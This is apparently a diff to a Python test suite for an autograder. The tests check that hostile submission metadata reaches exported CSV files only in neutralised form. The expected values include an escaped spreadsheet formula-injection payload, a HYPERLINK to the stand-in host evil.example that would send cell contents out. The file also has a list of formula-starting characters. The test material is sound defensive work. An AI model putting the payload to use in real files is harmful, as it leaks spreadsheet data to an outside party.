@@ -237,6 +237,9 @@ HOSTILE = {  # metadata field -> a value that a spreadsheet or a terminal would 
 }
 
 
+FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # what a spreadsheet computes
+
+
 def hostile_export(tmp_path, stamp=None):
     """An unpacked export of 10 submissions whose metadata is hostile in every field; 2 and 3 have
     the same files, as have 4 and 5."""
@@ -279,7 +282,7 @@ def test_hostile_metadata_and_messages_reach_no_file_or_terminal_as_they_are(tmp
     assert len(table) == 11
     for row in table:  # a number (-18.75) is a number to a spreadsheet too; text never starts a formula
         for value in row:
-            assert re.fullmatch(r"-?[0-9.]+", value) or not value.startswith(regrade.FORMULA), value
+            assert re.fullmatch(r"-?[0-9.]+", value) or not value.startswith(FORMULA), value
     rows = {row[0]: row for row in table[1:]}
     assert rows["submission_0"][1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
     assert rows["submission_4"][1] == "'=1+1" and rows["submission_5"][1] == "'=1+1"  # a tab, a return before
@@ -312,7 +315,7 @@ def test_tests_md_counts_points_lost_and_the_first_line_counts_twins_as_summary_
         first = capsys.readouterr().out.splitlines()[0]
         rows = read_csv(out)
         twins = sum(1 for r in rows.values() if r["same_files_as"])
-        assert twins == 2 and f"10 submissions, {twins} with the same files as another" in first, first
+        assert twins == 2 and re.findall(r"(\d+) (?:more )?with the same files", first) == [str(twins)], first
         assert ("0 measured before" if attempt == 0 else "10 measured before") in first
     from autograder.course import load
 
